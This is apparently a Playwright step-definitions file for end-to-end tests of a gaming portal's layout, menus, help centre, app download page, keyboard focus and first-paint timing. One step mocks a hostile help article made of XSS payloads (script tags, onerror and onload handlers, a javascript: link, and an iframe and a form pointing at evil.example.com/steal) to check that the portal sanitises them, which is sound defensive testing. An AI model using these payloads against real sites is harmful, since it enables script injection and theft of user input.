import { expect, type Page } from '@playwright/test';
import { button, dialog, dialogSaying, expectNames, list, loadingFrame } from '../pages/common';
import {
  AccountMenu,
  DownloadPage,
  HelpCentre,
  ServiceWidget,
  SideMenu,
  SiteFooter,
  control,
  bottomBar,
  focusIndex,
  header,
  layoutPart,
  place,
  sectionHeading,
  tabStops,
} from '../pages/shell';
import { Given, Then, When } from '../support/fixtures';
import { eventually, settled, soon } from '../support/waits';
import { APP_HOLD_MAX_MS, PAINT_FALLBACK_MS } from '../../src/app/early-start';
import { watchForHostileScript } from './notices.steps';

// ---- layout ----

Then(
  /^I see the (site header|side menu|site footer|service widget)$/,
  async ({ page }, name: string) => {
    await expect(layoutPart(page, name)).toBeVisible();
  },
);

Then(
  /^I do not see the (site header|side menu|site footer|service widget)$/,
  async ({ page }, name: string) => {
    await expect(layoutPart(page, name)).toHaveCount(0);
  },
);

Then(
  /^the (site header|side menu|site footer|service widget) is (shown|hidden)$/,
  async ({ page }, name: string, state: string) => {
    if (state === 'shown') await expect(layoutPart(page, name)).toBeVisible();
    else await expect(layoutPart(page, name)).toHaveCount(0);
  },
);

Then('the page shows the {string} section', async ({ page }, title: string) => {
  // A lazy section: its chunk loads first.
  await soon((timeout) => expect(sectionHeading(page, title)).toBeVisible({ timeout }));
});

Given('the {string} section cannot be downloaded', async ({ page, memo }, section: string) => {
  const failures: string[] = [];
  memo.set('consoleErrors', failures);
  page.on('console', (msg) => {
    if (msg.type() === 'error') failures.push(msg.text());
  });
  memo.set('failedSection', section);
  // Lazy sections are separate chunks named after their module (src/app/sections/<name>.tsx).
  await page.route(new RegExp(`/assets/${section}-[\\w-]+\\.js$`), (route) => route.abort());
});

Then('the failure of the section is reported', async ({ memo }) => {
  const section = String(memo.get('failedSection'));
  const errors = memo.get('consoleErrors') as string[];
  await expect
    .poll(() => errors.some((e) => e.includes(`[section] ${section} failed to load`)))
    .toBe(true);
});

Then('the browser history did not grow', async ({ page, memo }) => {
  expect(await page.evaluate(() => window.history.length)).toBe(memo.get('historyBefore'));
});

// ---- header ----

Then('the header has a {string} button', async ({ page }, name: string) => {
  await eventually.visible(button(header(page), name));
});

Then('the header has no {string} button', async ({ page }, name: string) => {
  await expect(header(page)).toBeVisible();
  await expect(button(header(page), name)).toHaveCount(0);
});

Then('the header shows the message {string}', async ({ page }, text: string) => {
  await eventually.visible(dialogSaying(page, text));
});

Then('a header popup is open', async ({ page }) => {
  await expect(dialog(page)).toBeVisible();
});

// ---- account menu ----

When('I open the account menu', async ({ page }) => {
  const menu = new AccountMenu(page);
  await menu.opener.click();
  await eventually.visible(menu.root);
});

When('I open the account menu from the keyboard', async ({ page }) => {
  const menu = new AccountMenu(page);
  await menu.opener.focus();
  await page.keyboard.press('Enter');
  await expect(menu.root).toBeVisible();
});

Then('the account menu has the entry {string}', async ({ page }, name: string) => {
  await expect(new AccountMenu(page).entry(name)).toBeVisible();
});

Then('the account menu has no entry {string}', async ({ page }, name: string) => {
  const menu = new AccountMenu(page);
  await expect(menu.root).toBeVisible();
  await expect(menu.entry(name)).toHaveCount(0);
});

When('I choose {string} in the account menu', async ({ page }, name: string) => {
  await new AccountMenu(page).entry(name).click();
});

When('I press the key {string} in the account menu', async ({ page }, key: string) => {
  await page.keyboard.press(key);
});

Then('the account menu entry {string} has the focus', async ({ page }, name: string) => {
  await expect(new AccountMenu(page).entry(name)).toBeFocused();
});

Then('the account menu is closed and its button has the focus', async ({ page }) => {
  const menu = new AccountMenu(page);
  await expect(menu.root).toHaveCount(0);
  await expect(menu.opener).toBeFocused();
  await expect(menu.opener).toHaveAttribute('aria-expanded', 'false');
});

Then(
  'the member label {string} is shown in its colours {string} on {string}',
  async ({ page }, label: string, text: string, background: string) => {
    const entry = new AccountMenu(page).entry(`${label} (player rank)`);
    await expect(entry).toHaveText(label);
    await expect(entry).toHaveCSS('color', text);
    await expect(entry).toHaveCSS('background-color', background);
  },
);

// ---- side bar ----

When('I choose the side menu entry {string}', async ({ page }, name: string) => {
  await new SideMenu(page).entry(name).click();
});

When('I press {string} in the side menu', async ({ page }, name: string) => {
  await new SideMenu(page).button(name).click();
});

When('I open the side menu providers of {string}', async ({ page }, category: string) => {
  const toggle = new SideMenu(page).providersToggle(category);
  await toggle.click();
  await expect(toggle).toHaveAttribute('aria-expanded', 'true');
});

When(
  'I choose the side menu provider {string} of {string}',
  async ({ page }, name: string, category: string) => {
    await new SideMenu(page).providers(category).getByRole('button', { name, exact: true }).click();
  },
);

Then('the side menu lists the game categories {string}', async ({ page }, names: string) => {
  const games = new SideMenu(page).games;
  // The category entries, without their "<category> providers" toggles.
  await expectNames(games.getByRole('button', { name: /^(?!.* providers$)/ }), list(names));
});

Then('the side menu lists no game categories', async ({ page }) => {
  await expect(new SideMenu(page).root).toBeVisible();
  await expect(
    new SideMenu(page).root
      .getByRole('button', { name: 'Home', exact: true })
      .or(new SideMenu(page).link('Home')),
  ).toBeVisible();
  await expect(new SideMenu(page).games).toHaveCount(0);
  await expect(new SideMenu(page).root.getByRole('button', { name: / providers$/ })).toHaveCount(0);
});

Then(
  'the side menu providers of {string} are {string}',
  async ({ page }, category: string, names: string) => {
    await expectNames(new SideMenu(page).providers(category).getByRole('button'), list(names));
  },
);

Then('the side menu offers {string}', async ({ page }, name: string) => {
  await expect(new SideMenu(page).entry(name)).toBeVisible();
});

Then(/^the side menu offers (no|\d+) languages$/, async ({ page }, count: string) => {
  const select = new SideMenu(page).languages;
  if (count === 'no') {
    await expect(new SideMenu(page).root).toBeVisible();
    await expect(select).toHaveCount(0);
    return;
  }
  await expect(select).toBeVisible();
  await expect(select.getByRole('option')).toHaveCount(Number(count));
});

Then(/^the side menu is (collapsed|expanded)$/, async ({ page }, state: string) => {
  const toggle = new SideMenu(page).toggle;
  await expect(toggle).toHaveAttribute('aria-expanded', state === 'expanded' ? 'true' : 'false');
  await expect(toggle).toHaveAccessibleName(
    state === 'expanded' ? 'Collapse the side menu' : 'Expand the side menu',
  );
});

Then('the side menu shows the QR code {string}', async ({ page }, name: string) => {
  const qr = new SideMenu(page).qrCode(name);
  await expect(qr).toBeVisible();
});

Then('the side menu shows no QR code', async ({ page }) => {
  await expect(new SideMenu(page).root).toBeVisible();
  await expect(new SideMenu(page).qrCode(/QR code/)).toHaveCount(0);
});

Then('the side menu links {string} to {string}', async ({ page }, name: string, href: string) => {
  const link = new SideMenu(page).link(name);
  await expect(link).toHaveAttribute('href', href);
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', /noopener/);
});

Then('the shell shows the dialog {string}', async ({ page }, name: string) => {
  await eventually.visible(dialog(page, name));
});

Then('the shell shows the message box {string}', async ({ page }, text: string) => {
  await eventually.visible(dialogSaying(page, text));
});

// ---- footer ----

When('I press {string} in the site footer', async ({ page }, name: string) => {
  const target = button(new SiteFooter(page).root, name);
  // The sections above the footer load as they come near (their code, their calls): reached by
  // scrolling, the page grows above the button, and a click then could land as it moves (a full
  // run once pressed beside it). It is pressed once they are in and painted.
  await target.scrollIntoViewIfNeeded();
  await settled(page);
  await target.click();
});

Then('the site footer has the blocks {string}', async ({ page }, names: string) => {
  for (const name of list(names)) {
    await expect(new SiteFooter(page).block(name)).toBeVisible();
  }
});

Then('the site footer lists the game provider {string}', async ({ page }, name: string) => {
  const strip = new SiteFooter(page).providers;
  await expect(
    strip.getByRole('listitem').filter({ hasText: new RegExp(`^${name}$`) }),
  ).toHaveCount(1);
});

Then('the site footer lists no game providers', async ({ page }) => {
  await expect(new SiteFooter(page).root).toBeVisible();
  await expect(
    new SiteFooter(page).root.getByRole('heading', { name: 'Game providers' }),
  ).toHaveCount(0);
  await expect(new SiteFooter(page).root.getByRole('list', { name: 'Game providers' })).toHaveCount(
    0,
  );
});

Then('the site footer shows the copyright line', async ({ page }) => {
  await expect(await new SiteFooter(page).copyright()).toBeVisible();
});

When('I follow the link {string} in the site footer', async ({ page }, name: string) => {
  await new SiteFooter(page).link(name).click();
});

// ---- floating service widget ----

Then(
  'scrolled to its end, the page shows the copyright line clear of the service widget',
  async ({ page }) => {
    const line = await new SiteFooter(page).copyright();
    const toggle = new ServiceWidget(page).toggle;
    await expect(toggle).toBeVisible();
    // The footer lays itself out once near (content-visibility), and the page grows: to the end
    // again until the line sits above the widget's button.
    await expect
      .poll(async () => {
        await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
        const [text, button] = await Promise.all([line.boundingBox(), toggle.boundingBox()]);
        return text && button ? Math.round(button.y - (text.y + text.height)) : null;
      })
      .toBeGreaterThanOrEqual(0);
  },
);

When('I toggle the service widget', async ({ page }) => {
  await new ServiceWidget(page).toggle.click();
});

Then(/^the service widget menu is (open|closed)$/, async ({ page }, state: string) => {
  await expect(new ServiceWidget(page).toggle).toHaveAttribute(
    'aria-expanded',
    state === 'open' ? 'true' : 'false',
  );
  const appDownload = new ServiceWidget(page).link('App download');
  if (state === 'open') await expect(appDownload).toBeVisible();
  else await expect(appDownload).toHaveCount(0);
});

Then('the service widget offers {string}', async ({ page }, name: string) => {
  await expect(new ServiceWidget(page).entry(name)).toBeVisible();
});

Then(
  'the service widget links {string} to {string}',
  async ({ page }, name: string, href: string) => {
    const link = new ServiceWidget(page).link(name);
    await expect(link).toHaveAttribute('href', href);
    await expect(link).toHaveAttribute('rel', /noopener/);
  },
);

When('I choose {string} in the service widget', async ({ page }, name: string) => {
  await new ServiceWidget(page).entry(name).click();
});

// ---- help centre ----

Then('the help centre lists the topics {string}', async ({ page }, names: string) => {
  await expectNames(new HelpCentre(page).topics.getByRole('button'), list(names));
});

When('I choose the help topic {string}', async ({ page }, name: string) => {
  await new HelpCentre(page).topic(name).click();
});

Then('the help article {string} is shown', async ({ page }, title: string) => {
  const article = new HelpCentre(page).article(title);
  await expect(article).toBeVisible();
  await expect(article.getByRole('heading', { level: 2, name: title, exact: true })).toBeVisible();
  await expect(new HelpCentre(page).topic(title)).toHaveAttribute('aria-current', 'true');
});

// ---- app download page ----

Then(
  'the download page shows the QR code {string} sized {int} px with a {int} px margin',
  async ({ page }, name: string, size: number, margin: number) => {
    const qr = new DownloadPage(page).qrCode(name);
    await expect(qr).toBeVisible();
    // The code itself, and the white frame around it that is its quiet zone.
    const inner = await qr.boundingBox();
    const frame = await qr.locator('xpath=..').boundingBox();
    expect(inner && frame).toBeTruthy();
    expect(Math.round(frame!.width)).toBe(size);
    expect(Math.round(frame!.height)).toBe(size);
    expect(Math.round(inner!.x - frame!.x)).toBe(margin);
    expect(Math.round(inner!.y - frame!.y)).toBe(margin);
    expect(Math.round(inner!.width)).toBe(size - 2 * margin);
    const background = await qr
      .locator('xpath=..')
      .evaluate((el) => getComputedStyle(el).backgroundColor);
    expect(background).toBe('rgb(255, 255, 255)');
  },
);

Then(
  'the download page links {string} to {string}',
  async ({ page }, name: string, href: string) => {
    await expect(new DownloadPage(page).link(name)).toHaveAttribute('href', href);
  },
);

Then(
  'the download page has the install guide {string} with the steps {string}',
  async ({ page }, guide: string, steps: string) => {
    const region = new DownloadPage(page).guide(guide);
    await expect(region.getByRole('heading', { name: guide, exact: true })).toBeVisible();
    const items = region.getByRole('listitem');
    const expected = steps.split('|').map((s) => s.trim());
    await expect(items).toHaveText(expected);
  },
);

// ---- installing the app (the browser's offer, Safari on iOS) ----

/** Safari on an iPhone, as it names itself. */
const IPHONE_SAFARI =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';

const OUTCOMES = { accept: 'accepted', dismiss: 'dismissed' } as const;

Given('I use Safari on an iPhone', async ({ page }) => {
  // This tab only (the context is shared between scenarios).
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Emulation.setUserAgentOverride', {
    userAgent: IPHONE_SAFARI,
    platform: 'iPhone',
  });
});

When(
  'the browser offers to install the portal and I will {string} its dialog',
  async ({ page }, answer: string) => {
    if (answer !== 'accept' && answer !== 'dismiss')
      throw new Error(`accept or dismiss, not ${answer}`);
    // Chromium's beforeinstallprompt, as the browser fires it once the portal is installable;
    // headless Chromium never shows the real dialog, so this one records that it was asked for.
    await page.evaluate((outcome) => {
      const shown: number[] = [];
      Object.defineProperty(window, '__installDialogs', { value: shown, configurable: true });
      const event = Object.assign(new Event('beforeinstallprompt', { cancelable: true }), {
        prompt: () => {
          shown.push(Date.now());
          return Promise.resolve();
        },
        userChoice: Promise.resolve({ outcome }),
      });
      window.dispatchEvent(event);
    }, OUTCOMES[answer]);
  },
);

When('I install the app from the download page', async ({ page }) => {
  await new DownloadPage(page).installButton.click();
});

Then('the download page offers to install the app', async ({ page }) => {
  await eventually.visible(new DownloadPage(page).installButton);
});

Then("the browser's install dialog was shown once", async ({ page }) => {
  await expect
    .poll(() =>
      page.evaluate(
        () => (window as unknown as { __installDialogs: number[] }).__installDialogs.length,
      ),
    )
    .toBe(1);
});

Then('the download page says {string} with no install button', async ({ page }, text: string) => {
  const download = new DownloadPage(page);
  await expect(download.install).toContainText(text);
  await expect(download.installButton).toHaveCount(0);
});

// ---- what the mock serves: vendor lanes, resources, help articles ----

Given('the game category {string} has no vendors', async ({ mock }, code: string) => {
  await mock.patch({ vendorLanes: { emptied: [code] } });
});

Given('the server leaves out the game category {string}', async ({ mock }, code: string) => {
  await mock.patch({ vendorLanes: { drop: [code] } });
});

Given('the site offers no resources', async ({ mock }) => {
  await mock.patch({ resources: { replace: [] } });
});

Given('the site offers only the resources {string}', async ({ mock }, types: string) => {
  const keep = new Set(list(types));
  const all = [
    'Android',
    'MOBILECONFIG',
    'TELEGRAM',
    'FACEBOOK',
    'INSTAGRAM',
    'SpeedTest',
    'AFFILIATELINK',
  ];
  await mock.patch({ resources: { drop: all.filter((t) => !keep.has(t)) } });
});

Then('the side menu does not link {string}', async ({ page }, name: string) => {
  await expect(new SideMenu(page).link('Home')).toBeVisible();
  await expect(new SideMenu(page).link(name)).toHaveCount(0);
});

Then('the side menu has no social links', async ({ page }) => {
  await expect(new SideMenu(page).link('Home')).toBeVisible();
  await expect(new SideMenu(page).socialLinks).toHaveCount(0);
});

Then('the side menu does not show the QR code {string}', async ({ page }, name: string) => {
  await expect(new SideMenu(page).root.getByRole('img', { name: /QR code/ }).first()).toBeVisible();
  await expect(new SideMenu(page).qrCode(name)).toHaveCount(0);
});

Then('the side menu says {string}', async ({ page }, text: string) => {
  await expect(new SideMenu(page).root.getByText(text, { exact: true })).toBeVisible();
});

Then('the service widget does not offer {string}', async ({ page }, name: string) => {
  await expect(new ServiceWidget(page).link('App download')).toBeVisible();
  await expect(new ServiceWidget(page).link(name)).toHaveCount(0);
});

// ---- a hostile help article ----

Given('the help centre serves a hostile article', async ({ page, mock, memo }) => {
  await mock.patch({
    helpCenter: [
      {
        id: 1,
        title: 'Hostile article',
        content:
          `<p>Safe text</p><script>alert('xss-help-script')</script>` +
          `<img src="/cdn-a/none.png" onerror="alert('xss-help-onerror')">` +
          `<p onclick="alert('xss-help-click')">Tap to see the rules</p>` +
          `<a href="javascript:alert('xss-help-link')">click here</a>` +
          `<a href="https://example.com/ok">good link</a>` +
          `<iframe src="https://evil.example.com/frame"></iframe>` +
          `<svg onload="alert('xss-help-svg')"><circle r="4"/></svg>` +
          `<form action="https://evil.example.com/steal"><input name="p"><button>Send</button></form>`,
        category: 'policy',
      },
    ],
  });
  watchForHostileScript(page, memo);
});

When('I click what the help article offers', async ({ page }) => {
  const article = new HelpCentre(page).article('Hostile article');
  await expect(article.getByText('Safe text', { exact: true })).toBeVisible();
  await article.getByText('click here', { exact: true }).click();
  await article.getByText('Tap to see the rules', { exact: true }).click();
});

Then('the help article ran no script and keeps its safe parts', async ({ page, memo }) => {
  const article = new HelpCentre(page).article('Hostile article');
  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute(
    'href',
    'https://example.com/ok',
  );
  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute(
    'rel',
    'noopener noreferrer',
  );
  const active = await article.evaluate((el) => ({
    elements: el.querySelectorAll('script, iframe, svg, form, input, button, object, embed').length,
    handlers: [...el.querySelectorAll('*')].filter((n) =>
      [...n.attributes].some((a) => /^on/i.test(a.name)),
    ).length,
    scriptLinks: [...el.querySelectorAll('[href], [src]')].filter((n) =>
      /^\s*(javascript|data):/i.test(n.getAttribute('href') ?? n.getAttribute('src') ?? ''),
    ).length,
  }));
  expect(active).toEqual({ elements: 0, handlers: 0, scriptLinks: 0 });
  expect(memo.get('alerts')).toEqual([]);
  expect(memo.get('strangers')).toEqual([]);
});

// ---- keyboard ----

const PLACE = '(site header|notice marquee|side menu|bottom bar|dialog "[^"]+")';

When(
  new RegExp(`^I press "([^"]+)" in the ${PLACE} with the keyboard$`),
  async ({ page }, name: string, where: string) => {
    const target = control(page, name, where);
    await target.focus();
    await target.press('Enter');
  },
);

When('I press the key {string}', async ({ page }, key: string) => {
  await page.keyboard.press(key);
});

Then(new RegExp(`^the keyboard focus is inside the ${PLACE}$`), async ({ page }, where: string) => {
  const root = place(page, where);
  // A dialog may be a chunk of its own, loaded the first time.
  await eventually.visible(root, 15_000);
  await expect.poll(async () => (await focusIndex(root)) !== null).toBe(true);
});

Then(new RegExp(`^Tab and Shift\\+Tab go round the ${PLACE}$`), async ({ page }, where: string) => {
  const root = place(page, where);
  // Its controls are all in once its calls have answered (the register form asks for its rules
  // and the white-label switches as it opens) and their count holds for a few checks.
  await settled(page);
  let stops = await tabStops(root);
  for (let same = 0; same < 3;) {
    await page.waitForFunction(
      () => new Promise((done) => requestAnimationFrame(() => done(true))),
    );
    const now = await tabStops(root);
    same = now.length === stops.length ? same + 1 : 0;
    stops = now;
  }
  expect(stops.length).toBeGreaterThan(1);
  for (const key of ['Tab', 'Shift+Tab']) {
    const seen = new Set<number | null>();
    // Two more presses than stops: the focus has to come round to the start again.
    for (let i = 0; i < stops.length + 2; i++) {
      await page.keyboard.press(key);
      seen.add(await focusIndex(root));
    }
    expect(seen.has(null), `${key} left the ${where}`).toBe(false);
    // Fewer places than presses: the focus came round to where it had been.
    expect(seen.size).toBeGreaterThan(1);
    expect(seen.size).toBeLessThan(stops.length + 2);
  }
});

Then('no dialog {string} is open', async ({ page }, title: string) => {
  await eventually.gone(dialog(page, title));
});

Then(
  new RegExp(`^the keyboard focus is on "([^"]+)" in the ${PLACE}$`),
  async ({ page }, name: string, where: string) => {
    await expect(control(page, name, where)).toBeFocused();
  },
);

Then('Tab reaches every button and link of the side menu', async ({ page }) => {
  const menu = new SideMenu(page);
  const stops = await tabStops(menu.root);
  expect(stops.length).toBeGreaterThan(3);
  await menu.toggle.focus();
  const seen = new Set<number>([(await focusIndex(menu.root))!]);
  for (let i = 0; i < stops.length + 1; i++) {
    await page.keyboard.press('Tab');
    const at = await focusIndex(menu.root);
    if (at === null) break;
    seen.add(at);
  }
  expect(stops.filter((i) => !seen.has(i))).toEqual([]);
});

/** What the page recorded of its first paint (performance.now() times). */
interface FirstPaint {
  /** The page's first paint (the loading frame), and when its document had been read. */
  firstPaint: number | null;
  contentLoaded: number | null;
  bannerSrc: string | null;
  bannerPaint: number | null;
  appAsked: number | null;
  /** When the first of the page's own files (texts, sections) was asked for by the early script. */
  filesAsked: number | null;
  shellGone: number | null;
}

const firstPaint = (page: Page) =>
  page.evaluate(() => (window as unknown as { __firstPaint: FirstPaint }).__firstPaint);

Given("the page's first paint is watched", async ({ page }) => {
  await page.addInitScript(() => {
    const seen: FirstPaint = {
      firstPaint: null,
      contentLoaded: null,
      bannerSrc: null,
      bannerPaint: null,
      appAsked: null,
      filesAsked: null,
      shellGone: null,
    };
    Object.defineProperty(window, '__firstPaint', { value: seen });
    // The loading frame's banner reports its paint (element timing, as the page itself watches it).
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as PerformanceEntry[] &
        { identifier: string; renderTime: number; url: string }[]) {
        if (entry.identifier !== 'boot-shell-banner' || seen.bannerPaint !== null) continue;
        seen.bannerPaint = entry.renderTime;
        seen.bannerSrc = entry.url;
      }
    }).observe({ type: 'element', buffered: true });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries())
        if (entry.name === 'first-paint' && seen.firstPaint === null)
          seen.firstPaint = entry.startTime;
    }).observe({ type: 'paint', buffered: true });
    document.addEventListener('DOMContentLoaded', () => {
      seen.contentLoaded = performance.now();
    });
    new MutationObserver((records) => {
      for (const node of records.flatMap((r) => [...r.addedNodes])) {
        if (!(node instanceof HTMLElement)) continue;
        // The app's own module (the mock host adds its scenario panel's launcher at once: not the
        // app), and the page's own files: the early script's preloads of them (not of the app's
        // modules, data-early=app).
        if (
          seen.appAsked === null &&
          node.matches('script[type=module][src]:not([src^="/__mock/"])')
        )
          seen.appAsked = performance.now();
        else if (
          seen.filesAsked === null &&
          node.matches('link[data-early=route]:is([rel=modulepreload], [rel=preload])')
        )
          seen.filesAsked = performance.now();
      }
      if (
        seen.shellGone === null &&
        document.readyState !== 'loading' &&
        !document.getElementById('boot-shell')
      )
        seen.shellGone = performance.now();
    }).observe(document, { childList: true, subtree: true });
  });
});

Then(
  'the loading frame painted the first banner of the group {string}',
  async ({ page, mock }, group: string) => {
    const [first] = (await mock.announcements()).banners
      .filter((b) => b.groupName === group)
      .sort((a, b) => (a.sort ?? Infinity) - (b.sort ?? Infinity));
    expect(first, `the mock has a banner of ${group}`).toBeDefined();
    await expect
      .poll(async () => (await firstPaint(page)).bannerPaint, { message: 'the banner painted' })
      .not.toBeNull();
    const seen = await firstPaint(page);
    const painted = new URL(seen.bannerSrc ?? '');
    // The address as the mock gives it: the brand's palette is in its query (mocks/art/cdn.ts).
    expect(`${painted.pathname}${painted.search}`).toMatch(
      new RegExp(`/${first!.url.replace(/^\.?\/+/, '').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`),
    );
  },
);

Given("the start's calls take {int} ms to answer", async ({ page }, ms: number) => {
  // As on a slow line: the brand file, the status and the announcements (this tab only).
  await page.route(
    (url) => url.pathname === '/brand.json' || url.pathname.startsWith('/wps/'),
    async (route) => {
      await new Promise((resolve) => setTimeout(resolve, ms));
      await route.fallback();
    },
  );
});

Then("the portal's code was asked for before that banner had painted", async ({ page }) => {
  const seen = await firstPaint(page);
  expect(seen.appAsked, "the portal's code was asked for").not.toBeNull();
  expect(seen.appAsked!).toBeLessThan(seen.bannerPaint!);
});

Then("the page's own files were asked for after that banner had painted", async ({ page }) => {
  await expect
    .poll(async () => (await firstPaint(page)).filesAsked, {
      message: "the page's own files were asked for",
    })
    .not.toBeNull();
  const seen = await firstPaint(page);
  expect(seen.appAsked, "the portal's code was asked for").not.toBeNull();
  // After the banner's paint, or (a banner slower than that, as on a loaded machine) once the
  // hold's cap has run out: APP_HOLD_MAX_MS after the page has painted (or PAINT_FALLBACK_MS after
  // its document was read, the page's own fallback when a paint is late). Never before both.
  expect(seen.firstPaint, 'the first paint').not.toBeNull();
  const painted = Math.min(seen.firstPaint!, seen.contentLoaded! + PAINT_FALLBACK_MS);
  expect(seen.filesAsked!).toBeGreaterThanOrEqual(
    Math.min(seen.bannerPaint!, painted + APP_HOLD_MAX_MS),
  );
});

Then('the loading frame painted no banner', async ({ page }) => {
  const seen = await firstPaint(page);
  expect(seen.appAsked, "the portal's code was asked for").not.toBeNull();
  expect(seen.bannerPaint).toBeNull();
});

Then('the loading frame is gone', async ({ page }) => {
  await expect.poll(async () => (await firstPaint(page)).shellGone).not.toBeNull();
  await expect(loadingFrame(page)).toHaveCount(0);
});

// ---- the phone layout (issue 25) ----

Given('the screen is {int} by {int} px', async ({ page }, width: number, height: number) => {
  await page.setViewportSize({ width, height });
});

Then('the site header is at most {int} px tall', async ({ page }, most: number) => {
  const box = await header(page).boundingBox();
  expect(box?.height).toBeLessThanOrEqual(most);
});

Then('the page is no wider than the screen', async ({ page }) => {
  await settled(page);
  const { scroll, screen } = await page.evaluate(() => ({
    scroll: document.documentElement.scrollWidth,
    screen: window.innerWidth,
  }));
  expect(scroll).toBeLessThanOrEqual(screen);
});

Then('the banners start in the first screen', async ({ page }) => {
  const banners = page.getByRole('region', { name: 'Banners', exact: true });
  await expect(banners).toBeVisible();
  const box = await banners.boundingBox();
  expect(box!.y).toBeLessThan(page.viewportSize()!.height / 2);
});

When('I close the side menu by its backdrop', async ({ page }) => {
  const { width, height } = page.viewportSize()!;
  // The page beside the drawer: the backdrop over it.
  await page.mouse.click(width - 10, height / 2);
});

Then('the bottom bar offers {string}', async ({ page }, names: string) => {
  const bar = bottomBar(page);
  await expectNames(bar.getByRole('link').or(bar.getByRole('button')), list(names));
});

Then('the bottom bar marks {string} as the current page', async ({ page }, name: string) => {
  const current = bottomBar(page).locator('[aria-current="page"]');
  await expect(current).toHaveCount(1);
  await expect(current).toHaveAccessibleName(name);
});

Then('the dialog {string} fills the screen', async ({ page }, title: string) => {
  const root = dialog(page, title);
  await eventually.visible(root, 15_000);
  const { width, height } = page.viewportSize()!;
  await expect.poll(async () => await root.boundingBox()).toEqual({ x: 0, y: 0, width, height });
});
